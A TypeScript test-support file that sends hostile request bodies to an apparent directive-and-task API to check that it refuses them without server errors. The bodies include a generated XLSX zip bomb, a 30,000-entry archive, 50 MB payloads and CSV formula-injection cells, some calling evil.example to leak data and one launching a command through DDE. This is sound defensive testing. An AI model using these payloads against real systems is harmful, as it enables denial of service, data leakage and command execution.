/**
 * Hostile bodies the fuzzer does not generate: archive bombs, a long repeated phrase for the drafter, formula cells,
 * far dates, a 50 MB body. Each must be answered, without a 5xx, within the time limit; a 4xx refusal is a pass.
 */
import { bytesEntry, zipArchive } from '../support/zip-bomb';

export interface HostileCase {
  name: string;
  method: string;
  path: string;
  /** The body's size as sent, in bytes. */
  bytes: number;
  status: number | 'no answer';
  ms: number;
  ok: boolean;
  /** Why it failed, or the refusal's detail (the first 160 characters). */
  note: string;
}

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** A ZIP archive of deflated entries (test/support/zip-bomb.ts writes it). */
export function zipOf(entries: { name: string; data: Buffer }[]): Buffer {
  return Buffer.from(zipArchive(entries.map((e) => bytesEntry(e.name, e.data))));
}

const CONTENT_TYPES = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
    '</Types>',
);
const ROOT_RELS = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>' +
    '</Relationships>',
);
const WORKBOOK = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Tasks" sheetId="1" r:id="rId1"/></sheets></workbook>',
);
const WORKBOOK_RELS = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' +
    '</Relationships>',
);

/** A workbook whose one sheet inflates to `inflatedMb` MiB of rows (about a thousandth of that on the wire). */
export function xlsxZipBomb(inflatedMb = 256): Buffer {
  const head = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
  );
  const tail = Buffer.from('</sheetData></worksheet>');
  const row = Buffer.from('<row><c t="inlineStr"><is><t>các bồ</t></is></c></row>');
  const sheet = Buffer.alloc(inflatedMb * 1024 * 1024);
  head.copy(sheet, 0);
  const rowsEnd = sheet.length - tail.length;
  let at = head.length;
  for (; at + row.length <= rowsEnd; at += row.length) row.copy(sheet, at);
  sheet.fill(0x20, at, rowsEnd); // spaces up to the closing tags
  tail.copy(sheet, rowsEnd);
  return zipOf([
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: '_rels/.rels', data: ROOT_RELS },
    { name: 'xl/workbook.xml', data: WORKBOOK },
    { name: 'xl/_rels/workbook.xml.rels', data: WORKBOOK_RELS },
    { name: 'xl/worksheets/sheet1.xml', data: sheet },
  ]);
}

/** An archive of many tiny entries: the bomb of the directory rather than of the bytes. */
export function zipOfManyEntries(count = 30_000): Buffer {
  const entries = [
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: '_rels/.rels', data: ROOT_RELS },
    { name: 'xl/workbook.xml', data: WORKBOOK },
  ];
  for (let i = 0; i < count; i += 1) entries.push({ name: `xl/media/${i}.xml`, data: Buffer.from('<x/>') });
  return zipOf(entries);
}

/** CSV as Excel writes it (BOM, ";"), with cells a spreadsheet would run as formulas. */
export function csvWithFormulaCells(): Buffer {
  const header = 'Mã nhiệm vụ;Tên nhiệm vụ;Mô tả;Đơn vị chủ trì;Đơn vị phối hợp;Thời hạn;Nhiệm vụ trọng tâm';
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"click")',
    "=cmd|' /C calc'!A0",
    '+SUM(1;1)',
    '-2+3',
    '@SUM(A1:A9)',
    '=1/0',
    '\t=1+1',
    '=IMPORTXML("http://evil.example";"//a")',
  ];
  const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
  const rows = formulas.map((f, i) => [`formula-${i}`, f, f, 'an-giang', f, '31/12/2099', f].map(quoted).join(';'));
  return Buffer.from(`\ufeff${[header, ...rows].join('\r\n')}\r\n`, 'utf8');
}

interface Sent {
  name: string;
  method: string;
  path: string;
  type?: string;
  /** Built when sent, so the large bodies are not all held at once. */
  body?: () => Buffer | string;
}

/** Every hostile case against a directive and an assignment the caller's run can reach. */
export function hostileRequests(target: { directiveId: string; taskId: string; unitCode: string }): Sent[] {
  const imports = `/v1/directives/${encodeURIComponent(target.directiveId)}/imports`;
  const phrase = 'các bồ;'.repeat(16_000);
  const fiftyMb = () => Buffer.alloc(50 * 1024 * 1024, 'a');
  const fiftyMbJson = () => Buffer.concat([Buffer.from('{"title":"'), fiftyMb(), Buffer.from('"}')]);
  const assignment = `/v1/tasks/${encodeURIComponent(target.taskId)}/assignments/${encodeURIComponent(target.unitCode)}`;
  return [
    { name: 'xlsx zip bomb (256 MiB sheet)', method: 'POST', path: imports, type: XLSX, body: () => xlsxZipBomb() },
    { name: 'xlsx zip bomb, commit', method: 'POST', path: `${imports}?commit=true`, type: XLSX, body: () => xlsxZipBomb(64) },
    {
      name: 'zip of 30,000 entries (under the 5 MiB upload limit, so it reaches the reader)',
      method: 'POST',
      path: imports,
      type: XLSX,
      body: () => zipOfManyEntries(),
    },
    { name: 'csv with formula cells', method: 'POST', path: imports, type: 'text/csv; charset=utf-8', body: () => csvWithFormulaCells() },
    {
      name: 'drafter: "các bồ;" × 16,000 (text)',
      method: 'POST',
      path: '/v1/directives/drafts?issuedOn=2025-01-06',
      type: 'text/plain; charset=utf-8',
      body: () => phrase,
    },
    {
      name: 'drafter: "các bồ;" × 16,000 (JSON)',
      method: 'POST',
      path: '/v1/directives/drafts',
      type: 'application/json',
      body: () => JSON.stringify({ text: phrase, issuedOn: '2025-01-06' }),
    },
    {
      name: 'task due 9999-12-31',
      method: 'POST',
      path: `/v1/directives/${encodeURIComponent(target.directiveId)}/tasks`,
      type: 'application/json',
      body: () => JSON.stringify({ title: 'Far', dueOn: '9999-12-31', assignees: { units: [target.unitCode] } }),
    },
    {
      name: 'task due 9999-12-31T23:59:59Z',
      method: 'POST',
      path: `/v1/directives/${encodeURIComponent(target.directiveId)}/tasks`,
      type: 'application/json',
      body: () => JSON.stringify({ title: 'Far', dueAt: '9999-12-31T23:59:59Z', assignees: { units: [target.unitCode] } }),
    },
    {
      name: 'extension request to 9999-12-31',
      method: 'POST',
      path: `${assignment}/extension-requests`,
      type: 'application/json',
      body: () => JSON.stringify({ newDueOn: '9999-12-31', reason: 'far' }),
    },
    {
      name: 'extension request to 9999-12-31T23:59:59Z',
      method: 'POST',
      path: `${assignment}/extension-requests`,
      type: 'application/json',
      body: () => JSON.stringify({ newDueOn: '9999-12-31', newDueAt: '9999-12-31T23:59:59Z', reason: 'far' }),
    },
    { name: 'task table import of 50 MB', method: 'POST', path: imports, type: 'application/octet-stream', body: fiftyMb },
    { name: 'JSON body of 50 MB', method: 'POST', path: '/v1/directives', type: 'application/json', body: fiftyMbJson },
    { name: 'draft text of 50 MB', method: 'POST', path: '/v1/directives/drafts?issuedOn=2025-01-06', type: 'text/plain', body: fiftyMb },
  ];
}

/** Sends each case with the token and judges its answer: no 5xx, an answer at all, within `slowMs`. */
export async function runHostileBodies(apiUrl: string, token: string, requests: Sent[], slowMs: number): Promise<HostileCase[]> {
  const results: HostileCase[] = [];
  for (const r of requests) {
    const body = r.body?.();
    const bytes = body === undefined ? 0 : Buffer.byteLength(body);
    const started = performance.now();
    let status: number | 'no answer' = 'no answer';
    let note: string;
    try {
      const res = await fetch(apiUrl + r.path, {
        method: r.method,
        headers: { authorization: `Bearer ${token}`, ...(r.type ? { 'content-type': r.type } : {}) },
        body,
        signal: AbortSignal.timeout(60_000),
      });
      status = res.status;
      const text = await res.text();
      note = /"detail":"((?:[^"\\]|\\.)*)"/.exec(text)?.[1] ?? '';
    } catch (err) {
      note = `${(err as Error).name}: ${(err as Error).message}; ${String((err as { cause?: unknown }).cause ?? '')}`;
    }
    const ms = Math.round(performance.now() - started);
    const failure =
      status === 'no answer' ? 'no answer' : status >= 500 ? `server error ${status}` : ms > slowMs ? `slower than ${slowMs} ms` : null;
    results.push({
      name: r.name,
      method: r.method,
      path: r.path,
      bytes,
      status,
      ms,
      ok: failure === null,
      note: (failure ? `${failure}: ` : '') + note.slice(0, 160),
    });
  }
  return results;
}
